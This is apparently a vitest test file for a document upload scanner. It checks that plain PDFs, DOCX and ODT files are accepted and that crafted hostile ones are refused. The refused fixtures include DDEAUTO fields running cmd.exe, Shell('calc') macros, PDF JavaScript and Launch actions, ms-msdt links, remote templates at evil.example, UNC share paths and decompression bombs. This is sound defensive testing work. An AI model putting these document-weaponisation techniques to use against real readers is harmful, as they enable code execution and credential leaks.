import { PDFName, PDFString } from "@cantoo/pdf-lib";
import { describe, expect, it } from "vitest";
import { strToU8, unzipSync, zipSync } from "fflate";
import { scanDocument } from "../../functions/documents/scan-document.ts";
import {
  aDoc,
  aDocx,
  aDocxHiding,
  aDocxReferring,
  aDocxReferringAs,
  aDocxSaying,
  aDocxWith,
  aLongDocx,
  aLyingDocx,
  anEncryptedDocx,
  anOdt,
  aPdf,
  aPdfBomb,
  aPdfWithShadowedScript,
  attached,
  aZipBomb,
  basicModule,
  both,
  content,
  fieldInRuns,
  innerField,
  launch,
  library,
  meta,
  onOpen,
  openPassword,
  ownerPassword,
  rewritten,
  richMedia,
  script,
  xfa,
  type Make,
  rowsOf,
} from "./files.ts";

const PDF = "application/pdf";
const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
const ODT = "application/vnd.oasis.opendocument.text";
const MAIN = "wordprocessingml.document.main+xml";

const accepts =
  (contentType: string) =>
  async (_name: string, make: Make): Promise<void> =>
    expect(await scanDocument(await make())).toMatchObject({ contentType, scan: "accepted" });
const refuses = async (_name: string, scan: string, make: Make): Promise<void> =>
  expect((await scanDocument(await make())).scan).toBe(scan);

const joined = (...parts: (Uint8Array | string)[]) => Buffer.concat(parts.map((part) => Buffer.from(part)));

describe("a document is a PDF, a DOCX or an ODT by its bytes (DOC-02)", () => {
  it.each(
    Object.entries<Make>({
      "a text": () => strToU8("Beste, zie bijlage"),
      "a web page": () => strToU8("<!doctype html><script>alert(1)</script>"),
      "a program": () => Uint8Array.from([0x4d, 0x5a, ...new Uint8Array(200)]),
      "a shortcut": () => Uint8Array.from([0x4c, 0, 0, 0, 1, 0x14, 2, ...new Uint8Array(200)]),
      "any other zip": () => zipSync({ "protocol.docx": strToU8("x") }),
      "a document of Word 97": aDoc,
      "a PDF header after the first kilobyte": async () => joined(" ".repeat(1024), await aPdf()),
    }),
  )("%s is refused", (name, make) => refuses(name, "refused-type", make));
});

const linkTo = (URI: string) => onOpen({ S: "URI", URI: PDFString.of(URI) });
const SHARE = PDFString.of("\\\\\\\\10.0.0.1\\\\x.pdf");
const REMOTE_TEMPLATE =
  '<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example" TargetMode="External"/></Relationships>';

describe("a PDF (DOC-08)", () => {
  it.each(
    Object.entries<Make>({
      "as a person makes it": () => aPdf(),
      "with its objects in streams": () => aPdf(undefined, { useObjectStreams: true }),
      "with a link to a page": () => aPdf(linkTo("https://led.example")),
      "with a link that names a port only": () => aPdf(linkTo("www.led.example:8080/x")),
      "with bytes before its header": async () => joined("HTTP/1.1 200 OK\r\n\r\n", await aPdf()),
      "with what a mail program put after it": async () => joined(await aPdf(), "\r\n-- \r\n"),
      "with a password for changes only": () => aPdf(ownerPassword),
      "with a form": () => aPdf((pdf) => pdf.getForm().createTextField("naam").addToPage(pdf.getPage(0))),
    }),
  )("%s is accepted", accepts(PDF));

  const asObjects = { useObjectStreams: true };
  it.each(
    rowsOf({
      "refused-damaged": {
        "of five bytes": () => strToU8("%PDF-"),
        "cut off halfway": async () => (await aPdf()).slice(0, 600),
        "cut off at its very end": async () => (await aPdf()).slice(0, -8),
        "without a page": async () =>
          rewritten(await aPdf(undefined, { useObjectStreams: false }), "/Type /Pages", "/Type /Nages"),
      },
      "refused-password": {
        "with a password to open it": () => aPdf(openPassword),
      },
      "refused-script": {
        "with JavaScript": () => aPdf(script, { useObjectStreams: false }),
        "with JavaScript in a stream of objects": () => aPdf(script, asObjects),
        "with JavaScript among its names": () => aPdf((pdf) => pdf.addJavaScript("x", "1")),
        "with JavaScript under another spelling": async () =>
          rewritten(
            rewritten(await aPdf(script, { useObjectStreams: false }), "/S /JavaScript", "/S /J#61vaScript"),
            "/JS ",
            "/#4aS ",
          ),
        "encrypted, with JavaScript in it": () => aPdf(both(script, ownerPassword), asObjects),
        "with a dynamic form": () => aPdf(xfa),
        "with a script behind a harmless object of its number": aPdfWithShadowedScript,
        "with a script in a model in 3D": () =>
          aPdf((pdf) => {
            const OnInstantiate = pdf.context.register(pdf.context.stream("app.alert(1)"));
            pdf.context.register(pdf.context.stream("x", { Type: "3D", Subtype: "U3D", OnInstantiate }));
          }),
      },
      "refused-launch": {
        "that starts a program": () => aPdf(launch),
        "that starts a program, by objects in a stream": () => aPdf(launch, asObjects),
        "that starts a program, by a kind that stands elsewhere": () =>
          aPdf((pdf) => {
            const S = pdf.context.register(PDFName.of("Launch"));
            const action = pdf.context.obj({ S, F: PDFString.of("cmd.exe") });
            pdf.catalog.set(PDFName.of("OpenAction"), action);
          }, asObjects),
        "with a link that is a script": () => aPdf(linkTo("javascript:alert(1)"), asObjects),
        "with a link that starts a program": () => aPdf(linkTo("ms-msdt:/id x"), asObjects),
      },
      "refused-attachment": {
        "with a file in it": () => aPdf(attached),
        "with rich media": () => aPdf(richMedia),
      },
      "refused-remote": {
        ...Object.fromEntries(
          ["GoToR", "GoToE", "ImportData", "SubmitForm"].map((S) => [
            `that goes to a share (${S})`,
            () => aPdf(onOpen({ S, F: SHARE }), asObjects),
          ]),
        ),
        "with a stream that stands elsewhere": () =>
          aPdf((pdf) => {
            const F = { FS: "URL", F: PDFString.of("https://evil.example/x") };
            pdf.context.register(pdf.context.stream("", { F }));
          }, asObjects),
      },
      "refused-unpacked": {
        "that unpacks to far more": () => aPdfBomb(),
        "that says much before it unpacks to far more": () => aPdfBomb(`/P (${"a".repeat(3000)})`),
        "that is packed twice, with a remark between": () => aPdfBomb("", "[/FlateDecode % x\n/FlateDecode]"),
      },
    }),
  )("%s is refused as %s", refuses);
});

describe("a DOCX (DOC-03)", () => {
  it.each(
    Object.entries<Make>({
      "as a person makes it": () => aDocx(),
      "of many pages": aLongDocx,
      "with what Word left in its bin": () => aDocx({ "[trash]/0000.dat": new Uint8Array(100) }),
      "with a picture": () => aDocx({ "word/media/image1.png": Uint8Array.from([0x89, 0x50, 0x4e, 0x47]) }),
      "with a link to a page": () =>
        aDocxReferring("hyperlink", 'Target="https://led.example" TargetMode="External"'),
      "with the template of the own computer": () =>
        aDocxReferring(
          "attachedTemplate",
          'Target="file:///C:\\Sjablonen\\Brief.dotx" TargetMode="External"',
        ),
      "with a chart and its numbers": async () =>
        aDocx({
          "word/charts/_rels/chart1.xml.rels":
            '<Relationships><Relationship Id="r1" Type="http://x/package" Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/></Relationships>',
          "word/embeddings/Microsoft_Excel_Worksheet.xlsx": zipSync({
            "xl/workbook.xml": strToU8("<workbook/>"),
          }),
        }),
      "with a field for the page": () => aDocxSaying(fieldInRuns(" PAGE ")),
      "with a sum of fields": () => aDocxSaying(fieldInRuns(" = ", innerField(" PAGE "), " + 1 ")),
      "with a field that links to a page": () =>
        aDocxSaying(fieldInRuns(' HYPERLINK "https://led.example" \\o "Tip: klik" ')),
      "with a drawing that holds its picture": () =>
        aDocx({ "word/media/image1.svg": '<svg><image href="data:image/png;base64,AA"/></svg>' }),
    }),
  )("%s is accepted", accepts(DOCX));

  const external = (kind: string, target: string) => () =>
    aDocxReferring(kind, `Target="${target}" TargetMode="External"`);

  it.each(
    rowsOf({
      "refused-password": {
        "with a password": anEncryptedDocx,
      },
      "refused-type": {
        "that is an ODT with macros to other programs": async () =>
          aDocx(unzipSync(anOdt({ "Basic/Standard/Module1.xml": basicModule('Shell("calc")') }))),
        "that is a template": () =>
          aDocxWith("[Content_Types].xml", (text) =>
            text.replace(MAIN, MAIN.replace("document", "template")),
          ),
      },
      "refused-remote": {
        "with a template from elsewhere, after much space": () =>
          aDocx({ "word/_rels/settings.xml.rels": " ".repeat(300) + REMOTE_TEMPLATE }),
        "that gets its addressees elsewhere": () =>
          aDocx({ "word/x.xml": '<w:mailMerge><w:connectString w:val="DSN=x"/></w:mailMerge>' }),
        "with an old picture from elsewhere": () =>
          aDocxSaying('<w:pict><v:imagedata src="http://evil.example/x.png"/></w:pict>'),
        "with a field that links to a program": () =>
          aDocxSaying(fieldInRuns(' HYPERLINK "ms-ms', 'dt:/id x" ')),
        "with a picture whose place a field makes": () =>
          aDocxSaying(fieldInRuns(' INCLUDEPICTURE "', innerField(" QUOTE 104 116 "), 'x.png"')),
        "with a template from elsewhere": external("attachedTemplate", "https://evil.example/x.dotm"),
        "with a template on a share": external("attachedTemplate", "file:///\\\\10.0.0.1\\x\\x.dotm"),
        "with a frame from elsewhere": external("frame", "http://evil.example/frame.htm"),
        "with a picture from elsewhere": external("image", "http://evil.example/pixel.png"),
        "with an object from elsewhere": external("oleObject", "mhtml:http://evil.example/x"),
        "with a link that starts a program": external("hyperlink", "ms-msdt:/id PCWDiagnostic"),
        "with a template from elsewhere, in other spelling": () =>
          aDocxReferringAs(
            `<r:Relationship xmlns:r="x" TargetMode='&#69;xternal' Id='a' Target='&#104;ttps://evil.example' Type='http://x/attachedTemplate'/>`,
            "settings",
          ),
        "with a template from elsewhere, in UTF-16": () =>
          aDocx({
            "word/_rels/settings.xml.rels": Buffer.from(
              '\uFEFF<Relationships><Relationship Id="a" Type="http://x/attachedTemplate" Target="https://evil.example" TargetMode="External"/></Relationships>',
              "utf16le",
            ),
          }),
        "with a text from elsewhere": () => aDocxSaying(fieldInRuns(' INCLUDETEXT "http://evil.example/x"')),
      },
      "refused-damaged": {
        "with a template from elsewhere in what looks like a folder": () =>
          aDocxHiding("word/_rels/settings.xml.rels", REMOTE_TEMPLATE),
        "with attributes that a declaration adds": () =>
          aDocx({ "word/x.xml": '<!DOCTYPE a [<!ATTLIST a b CDATA "c">]><a/>' }),
        "cut off halfway": async () => (await aDocx()).slice(0, 2000),
        "with two parts of one name": () => aDocx({ "WORD/document.xml": "<x/>" }),
        "with entities of its own": () => aDocx({ "word/x.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>' }),
      },
      "refused-object": {
        "with a task pane": () => aDocxReferring("webextensiontaskpanes", 'Target="x/taskpanes.xml"'),
        "with an object of another program": () => aDocx({ "word/embeddings/oleObject1.bin": "x" }),
        "with a program in it": () => aDocx({ "word/media/image1.png": Uint8Array.from([0x4d, 0x5a, 0x90]) }),
        "with a document in it": async () => aDocx({ "word/embeddings/x.docx": await aDocx() }),
        "with a page of HTML in it": () => aDocxSaying('<w:altChunk r:id="rId99"/>'),
        "with ActiveX": () => aDocx({ "word/activeX/activeX1.xml": "<ocx/>" }),
      },
      "refused-macro": {
        "with a ribbon elsewhere": () => aDocxReferring("ui/extensibility", 'Target="x.xml"'),
        "with macros inside": () => aDocx({ "word/vbaProject.bin": "macro" }),
        "with macros under another name": () => aDocxReferring("vbaProject", 'Target="x.bin"'),
        "with a ribbon of its own": () => aDocx({ "customUI/customUI14.xml": "<customUI/>" }),
        "that is macro-enabled under another name": () =>
          aDocxWith("[Content_Types].xml", (text) =>
            text.replace(
              `application/vnd.openxmlformats-officedocument.${MAIN}`,
              "application/vnd.ms-word.document.macroEnabled.main+xml",
            ),
          ),
        "with macros in the numbers of a chart": () =>
          aDocx({ "word/embeddings/a.xlsx": zipSync({ "xl/vbaProject.bin": strToU8("x") }) }),
      },
      "refused-dde": {
        "with DDE of which a field makes a part": () =>
          aDocxSaying(fieldInRuns(" D", innerField(' QUOTE "DE" '), ' cmd "/c calc"')),
        "with DDE in the numbers of a chart": () =>
          aDocx({
            "word/embeddings/a.xlsx": zipSync({ "xl/x.xml": strToU8("<x><ddeLink ddeService='cmd'/></x>") }),
          }),
        "with DDE": () => aDocxSaying(fieldInRuns(' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"')),
        "with DDE split over runs": () => aDocxSaying(fieldInRuns(" D", "D", "E", ' "Excel" "x"')),
        "with DDE as a simple field": () => aDocxSaying('<w:fldSimple w:instr=" ddeauto c:\\x "/>'),
      },
      "refused-unpacked": {
        "with elements within each other without end": () => aDocx({ "word/x.xml": "<a>".repeat(1000) }),
        "with many attributes": () =>
          aDocx({ "word/x.xml": `<a ${Array.from({ length: 2000 }, (_, at) => `a${at}=""`).join(" ")}/>` }),
        "with many sets of numbers that unpack to far more together": async () => {
          const numbers = zipSync({ "xl/x.bin": new Uint8Array(30 * 1024 * 1024) });
          return aDocx(
            Object.fromEntries(
              Array.from({ length: 8 }, (_, at) => [`word/embeddings/a${at}.xlsx`, numbers] as const),
            ),
          );
        },
        "that unpacks to far more": aZipBomb,
        "that unpacks to more than it says": aLyingDocx,
      },
    }),
  )("%s is refused as %s", refuses);
});

describe("an ODT (DOC-04)", () => {
  it.each(
    Object.entries<Make>({
      "as a person makes it": () => anOdt(),
      "with an empty library of macros": () => anOdt(library()),
      "with a new module in which nobody wrote anything": () =>
        anOdt({
          ...library('<library:element library:name="Module1"/>'),
          "Basic/Standard/Module1.xml": basicModule("REM  *****  BASIC  *****\n\nSub Main\n\nEnd Sub\n"),
        }),
      "with a picture": () =>
        anOdt({
          "content.xml": content('<draw:frame><draw:image xlink:href="Pictures/1.png"/></draw:frame>'),
          "Pictures/1.png": Uint8Array.from([0x89, 0x50]),
        }),
      "with a formula": () =>
        anOdt({
          "Object 1/content.xml": "<math/>",
          "content.xml": content('<draw:object xlink:href="./Object 1"/>'),
        }),
      "with a drawing that holds its picture": () =>
        anOdt({ "Pictures/1.svg": '<svg><image x:href="data:image/png;base64,AA"/></svg>' }),
      "with what LibreOffice writes beside the text": () =>
        anOdt({
          "Configurations2/accelerator/current.xml": "",
          "Basic/script-lc.xml":
            '<!DOCTYPE library:libraries PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "libraries.dtd"><library:libraries/>',
        }),
      "with a link to a page": () =>
        anOdt({ "content.xml": content('<text:a xlink:href="https://led.example">x</text:a>') }),
      "with the template of the own computer": () =>
        anOdt({ "meta.xml": meta('<meta:template xlink:href="file:///home/an/brief.ott"/>') }),
    }),
  )("%s is accepted", accepts(ODT));

  const saying = (xml: string, scripts?: string) => () => anOdt({ "content.xml": content(xml, scripts) });

  it.each(
    rowsOf({
      "refused-type": {
        "that is a spreadsheet": () => anOdt({}, "application/vnd.oasis.opendocument.spreadsheet"),
        "without text": () =>
          zipSync({ mimetype: [strToU8("application/vnd.oasis.opendocument.text"), { level: 0 }] }),
      },
      "refused-macro": {
        "with macros": () => anOdt({ "Basic/Standard/Module1.xml": basicModule('Shell("calc")') }),
        "with macros of a part of it": () =>
          anOdt({ "Object 1/Basic/Standard/Module1.xml": basicModule('Shell("calc")') }),
        "with a script in Python": () => anOdt({ "Scripts/python/x.py": "import os" }),
      },
      "refused-password": {
        "with a password": () =>
          anOdt({
            "META-INF/manifest.xml": "<m:manifest><m:encryption-data/></m:manifest>",
            "content.xml": new Uint8Array([1, 2]),
          }),
        "with a password, as LibreOffice now writes it": () => anOdt({ "encrypted-package": "x" }),
      },
      "refused-script": {
        "that listens to an event": saying(
          "",
          '<office:scripts><office:event-listeners><script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/></office:event-listeners></office:scripts>',
        ),
        "with a script": saying('<text:script script:language="JavaScript">x</text:script>'),
        "with a link to a macro": saying('<text:a xlink:href="macro:///Standard.Module1.Main">x</text:a>'),
      },
      "refused-dde": {
        "with DDE": saying('<text:dde-connection-decl office:dde-application="soffice"/>'),
      },
      "refused-object": {
        "with an object of another program": saying('<draw:object-ole xlink:href="./Object 1"/>'),
        "with a program in it": () => anOdt({ "Pictures/1.png": Uint8Array.from([0x4d, 0x5a, 0]) }),
      },
      "refused-remote": {
        "with a picture from elsewhere": saying('<draw:image xlink:href="http://evil.example/p.png"/>'),
        "with a part from elsewhere": saying('<text:section-source xlink:href="file:////10.0.0.1/x.odt"/>'),
        "with a template from elsewhere": () =>
          anOdt({ "meta.xml": meta('<meta:template xlink:href="https://evil.example/x.ott"/>') }),
      },
    }),
  )("%s is refused as %s", refuses);
});
